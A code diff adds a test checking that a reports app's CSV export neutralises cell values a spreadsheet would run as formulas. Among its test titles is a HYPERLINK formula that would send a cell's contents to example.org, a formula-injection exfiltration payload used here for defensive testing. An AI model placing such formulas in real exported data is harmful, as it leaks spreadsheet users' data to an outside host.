@@ -392,6 +392,25 @@ def test_an_enlace_cannot_export_another_states_drafts(client, cast, make_report
     assert other.title not in body
 
 
+def test_the_csv_export_neutralises_text_a_spreadsheet_would_run_as_a_formula(
+    client, cast, make_report
+):
+    from observatorio.catalog.models import Institution
+
+    titles = ['=HYPERLINK("http://example.org/?x="&A1,"ver")', "+52 55 1234", "-guion", "@SUMA(A1)"]
+    for number, title in enumerate(titles, start=1):
+        make_report(institution="SRE", title=title, number=number, status=S.PUBLISHED)
+    Institution.objects.filter(acronym="SRE").update(acronym="-SRE")
+    client.force_login(cast("reviewer"))
+
+    body = client.get(reverse("reports:list") + "?ciclo=2023&formato=csv").content.decode()
+
+    rows = sorted(list(__import__("csv").reader(body.splitlines()))[1:], key=lambda r: r[4])
+    assert [(r[4], r[5], r[7]) for r in rows] == [
+        (str(number), f"'{title}", "'-SRE") for number, title in enumerate(titles, start=1)
+    ]
+
+
 def test_a_reviewer_exports_every_report_of_the_cycle(client, cast, make_report):
     make_report(state="14", title="Programa jalisciense")
     make_report(state="07", title="Programa chiapaneco")
